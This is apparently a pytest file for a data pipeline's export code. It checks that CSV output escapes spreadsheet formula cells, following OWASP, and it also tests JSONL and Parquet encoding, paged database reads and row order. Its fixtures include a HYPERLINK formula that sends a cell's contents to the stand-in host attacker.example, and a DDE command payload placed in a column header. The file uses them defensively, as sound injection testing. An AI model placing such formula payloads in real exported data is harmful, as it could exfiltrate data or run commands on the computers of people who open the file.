"""CSV export keeps spreadsheets from running cells as formulas (OWASP's rule) unless --raw; JSONL/Parquet raw."""

from __future__ import annotations

import csv
import json
import subprocess
import sys

import pyarrow.parquet as pq
import pytest

from pipeline.collect import store, writes
from pipeline.output.export import defuse_cell
from pipeline.records import Result, RunConfig

from .conftest import ROOT
from .datasets import write
from .fakeprovider import FakeProvider

STEERED = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
TEXTS = ["=1+2", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "steer me", "plain, with = - + @ inside"]


def stored_run(engine, run_id: str, results: list[Result]) -> None:
    """A completed run with these results, written as the collector writes them (no worker, no stream)."""
    config = RunConfig(
        run_id=run_id,
        dataset="d.csv",
        dataset_hash="h",
        template="{{ text }}",
        provider="fake",
        model="fake",
        total_rows=len(results),
    )
    with store.writing(engine) as conn:
        writes.save_run(conn, config, "completed")
        writes.apply_results(conn, results)


def cli(pipeline, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "enqueue.py", *args], cwd=ROOT, env=pipeline.env(), capture_output=True, text=True, timeout=60
    )


def read_csv(path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_escapes_formula_cells_unless_raw_and_other_formats_stay_raw(make_pipeline, tmp_path):
    rows = [{"id": f"r{i}", "text": text, "=cmd|' /C calc'!A0": "x"} for i, text in enumerate(TEXTS)]
    dataset = write(tmp_path / "d.csv", rows)
    with FakeProvider() as server:
        server.configure(answers=[{"match": "steer me", "content": STEERED}])
        pipeline = make_pipeline(compatible_base_url=f"{server.url}/v1")
        report = pipeline.submit(dataset, "{{ text }}", provider="compatible", model="m", id_column="id")
        pipeline.work()
    pipeline.collect()
    assert pipeline.run_row(report.run_id)["rows_succeeded"] == len(TEXTS)

    outputs = {}
    for name, extra in (
        ("safe.csv", []),
        ("raw.csv", ["--raw"]),
        ("out.jsonl", ["--format", "jsonl"]),
        ("out.parquet", ["--format", "parquet"]),
    ):
        run = cli(pipeline, "export", report.run_id, "-o", str(tmp_path / name), *extra)
        assert run.returncode == 0, run.stderr
        outputs[name] = tmp_path / name

    safe = {row["row_key"]: row for row in read_csv(outputs["safe.csv"])}
    raw = {row["row_key"]: row for row in read_csv(outputs["raw.csv"])}
    jsonl = {row["row_key"]: row for row in map(json.loads, outputs["out.jsonl"].read_text("utf-8").splitlines())}
    parquet = {row["row_key"]: row for row in pq.read_table(outputs["out.parquet"]).to_pylist()}
    for i, text in enumerate(TEXTS):
        key = f"r{i}"
        expected = text if text.startswith("plain") or text == "steer me" else "'" + text
        assert safe[key]["text"] == expected
        assert raw[key]["text"] == jsonl[key]["text"] == parquet[key]["text"] == text
    steered = f"r{TEXTS.index('steer me')}"
    assert safe[steered]["answer"] == "'" + STEERED  # the LLM's answer, steered by the dataset
    assert raw[steered]["answer"] == jsonl[steered]["answer"] == parquet[steered]["answer"] == STEERED
    assert safe["r0"]["answer"].startswith("ECHO: =1+2")  # not at the start: left alone
    assert "'=cmd|' /C calc'!A0" in safe["r0"] and "=cmd|' /C calc'!A0" in raw["r0"]  # the header too
    assert safe["r0"]["input_tokens"] == raw["r0"]["input_tokens"]  # numbers are never touched


def test_defuse_cell_follows_owasp():
    for dangerous in ("=A1", "+1", "-1", "@A1", "\t=A1", "\r=A1"):
        assert defuse_cell(dangerous) == "'" + dangerous
    for harmless in ("", "A=1", " =A1", "'=A1", "ECHO: =A1"):
        assert defuse_cell(harmless) == harmless
    assert defuse_cell(-1) == -1 and defuse_cell(None) is None and defuse_cell(-0.5) == -0.5


def test_a_column_is_defused_cell_by_cell_whether_searched_whole_or_not():
    """CSV escaping looks at a text column whole first (joined by newlines); it must quote exactly the cells
    defuse_cell quotes: a formula only in the middle, after a newline inside a cell, numbers, empty cells."""
    from pipeline.output.export import _defused

    columns = [
        ["plain"] * 50 + ["=A1"] + ["plain"] * 50,  # one cell in the middle
        ["a\n=b", "c\r\n+d", "x\n", ""],  # a formula character after a newline, not at the start: harmless
        [None, "ok", None, "@SUM(A1)", "", "\tTAB", "\rCR"],
        [None, "", None],
        [None, "", "-first text cell", "plain"],
        ["x", -1, "-2", 3.5, None, True],  # numbers are never touched, text beside them still is
        [-1, -2.5, 0],
        ["fine", "also fine", "\u00e9t\u00e9"],
        [],
    ]
    for column in columns:
        assert list(_defused(column)) == [defuse_cell(value) for value in column], column


def test_jsonl_lines_made_by_column_are_the_text_json_dumps_writes_for_each_row():
    """JSONL pages are encoded a column at a time (one function for a column of one type); each line must be
    what json.dumps(row, ensure_ascii=False, default=str) writes for the row's dict, odd values included."""
    from decimal import Decimal

    from pipeline.output.jsonlines import page_encoder

    columns = {
        "text": ["\u00e9\u00e8 \u2713 \U0001f600", 'a "b" \\ c', "\x00\x1f\n\t", ""],
        "text or null": [None, "x", None, "y"],
        "null": [None, None, None, None],
        "int": [-1, 10**30, 0, 7],
        "int or null": [None, 3, None, -4],
        "float": [0.1, 1.234e-06, -0.0, 1e300],
        "float with nan": [float("nan"), 1.5, None, 2.0],
        "float with inf": [None, float("-inf"), float("inf"), 0.0],
        "bool": [True, False, True, False],
        "bool or null": [None, True, None, False],
        "mixed": [True, 1, 1.5, "1"],
        "nested": [{"k": [1, "=x", None]}, [], {}, None],
        "other": [Decimal("1.50"), Decimal("-2"), None, "x"],
        'key with % and "quote"': ["%s", "%", "%%", "%d"],
        "cl\u00e9 \u2713": [1, 2, 3, 4],
    }
    rows = [dict(zip(columns, row)) for row in zip(*columns.values())]
    expected = "".join(json.dumps(row, ensure_ascii=False, default=str) + "\n" for row in rows)
    assert page_encoder(list(columns))(list(columns.values())) == expected

    # Two equal names: the row's dict keeps one key with the last value, as json.dumps of the dict did.
    names, values = ["a", "b", "a"], [[1, 2], ["x", "y"], [None, 3.5]]
    assert page_encoder(names)(values) == '{"a": null, "b": "x"}\n{"a": 3.5, "b": "y"}\n'


def test_export_reads_one_query_page_by_page_and_an_abandoned_read_leaves_the_connection_usable(database_url):
    """Export's one query streams: every row once, in input order, a page at a time (on PostgreSQL the server
    sends the rows in chunks of a page, or a named cursor hands them out). Pages left half-read cancel the
    query; the connection, back in the pool, answers the next one."""
    from sqlalchemy import text

    engine = store.make_engine(database_url)
    stored_run(
        engine,
        "paged",
        [
            Result(run_id="paged", row_key=f"k{i}", row_index=i, status="succeeded", input={"text": "t"})
            for i in (24 - i for i in range(25))
        ],
    )
    with engine.connect() as conn, store.result_pages(conn, "paged", ["row_key", "cached"], 10) as pages:
        first = next(pages)
        rows = [*first, *(row for page in pages for row in page)]
    assert [len(first), len(rows)] == [10, 25]
    assert [key for key, _ in rows] == [f"k{i}" for i in range(25)]
    assert {bool(cached) for _, cached in rows} == {False}
    with engine.connect() as conn, store.result_pages(conn, "paged", ["row_key"], 1) as pages:
        assert len(next(pages)) == 1
    with engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM results WHERE run_id = 'paged'")).scalar() == 25
    engine.dispose()


def test_a_run_larger_than_a_page_is_exported_whole_in_input_order(pipeline, tmp_path):
    """Results stored out of order, more of them than one page (5,000): every format has every row once, in
    input order, with the input columns of the first page."""
    import random

    from pipeline.errors import ConfigError
    from pipeline.output.export import PAGE, export_chunks, export_run

    rows = PAGE + 700
    order = list(range(rows))
    random.Random(7).shuffle(order)
    stored_run(
        pipeline.engine,
        "big",
        [
            Result(
                run_id="big",
                row_key=f"k{i}",
                row_index=i,
                status="failed" if i % 9 == 0 else "succeeded",
                input={"text": f"=t{i}", "n": i},
                answer=f"a{i}",
                parsed={"i": i} if i % 2 else None,
                cost_nano=i,
                finished_at=1.0,
            )
            for i in order
        ],
    )
    for fmt in ("csv", "jsonl", "parquet"):
        assert export_run(pipeline.engine, "big", fmt, tmp_path / f"out.{fmt}") == rows
    exported = {
        "csv": read_csv(tmp_path / "out.csv"),
        "jsonl": [json.loads(line) for line in (tmp_path / "out.jsonl").read_text("utf-8").splitlines()],
        "parquet": pq.read_table(tmp_path / "out.parquet").to_pylist(),
    }
    for fmt, table in exported.items():
        assert [row["row_key"] for row in table] == [f"k{i}" for i in range(rows)], fmt
        assert list(table[0])[:4] == ["text", "n", "row_key", "status"]
    assert exported["csv"][1]["text"] == "'=t1" and exported["jsonl"][1]["text"] == "=t1"
    assert exported["jsonl"][3]["parsed_json"] == '{"i": 3}' and exported["parquet"][4]["parsed_json"] is None
    assert exported["parquet"][9]["status"] == "failed" and exported["parquet"][10]["cost_usd"] == 10 / 1e9

    # The web's stream: the same bytes as the file, one chunk per page (CSV: the header first).
    for fmt, chunk_count in (("csv", 3), ("jsonl", 2)):
        for raw in (False, True):
            chunks = list(export_chunks(pipeline.engine, "big", fmt, raw=raw))
            assert len(chunks) == chunk_count, fmt
            export_run(pipeline.engine, "big", fmt, tmp_path / f"raw.{fmt}", raw=raw)
            assert b"".join(chunks) == (tmp_path / f"raw.{fmt}").read_bytes(), (fmt, raw)
    for run_id, fmt in (("missing", "csv"), ("big", "parquet")):  # refused at the call, before any chunk
        with pytest.raises(ConfigError):
            export_chunks(pipeline.engine, run_id, fmt)


def test_a_database_made_before_the_export_index_gets_it_at_start(database_url):
    """create_all makes indexes only with new tables: the (run_id, row_index) index that export, resume and
    retry-failed read by is added to an existing results table when a process starts."""
    from sqlalchemy import inspect, text

    from pipeline.collect import store

    engine = store.make_engine(database_url)
    with engine.begin() as conn:
        conn.execute(text("DROP INDEX ix_results_run_index"))
    assert "ix_results_run_index" not in {i["name"] for i in inspect(engine).get_indexes("results")}
    store.prepare(engine)
    assert "ix_results_run_index" in {i["name"] for i in inspect(engine).get_indexes("results")}
    engine.dispose()


def _run_of_inputs(pipeline, run_id: str, inputs: list[dict]) -> None:
    stored_run(
        pipeline.engine,
        run_id,
        [
            Result(run_id=run_id, row_key=f"k{i}", row_index=i, status="succeeded", input=v, finished_at=1.0)
            for i, v in enumerate(inputs)
        ],
    )


def test_parquet_takes_a_column_of_mixed_types_and_refuses_one_that_changes_type_whole(pipeline, tmp_path):
    """JSONL rows whose field is an object in one row and text in another: the column is text, the object its
    JSON (was: ArrowInvalid). A column that is whole numbers for a page, then text: a one-line error naming it,
    and no file left half-written."""
    from pipeline.errors import ConfigError
    from pipeline.output.export import PAGE, export_run

    _run_of_inputs(pipeline, "mixed", [{"v": {"a": 1}}, {"v": "plain"}, {"v": None}, {"v": 7}])
    assert export_run(pipeline.engine, "mixed", "parquet", tmp_path / "mixed.parquet") == 4
    values = [row["v"] for row in pq.read_table(tmp_path / "mixed.parquet").to_pylist()]
    assert values == ['{"a": 1}', "plain", None, "7"]

    _run_of_inputs(pipeline, "turns", [{"v": i} for i in range(PAGE)] + [{"v": "text"}])
    with pytest.raises(ConfigError, match=r"column 'v' is int64 in the first rows, but a row after row 5000"):
        export_run(pipeline.engine, "turns", "parquet", tmp_path / "turns.parquet")
    assert not (tmp_path / "turns.parquet").exists()
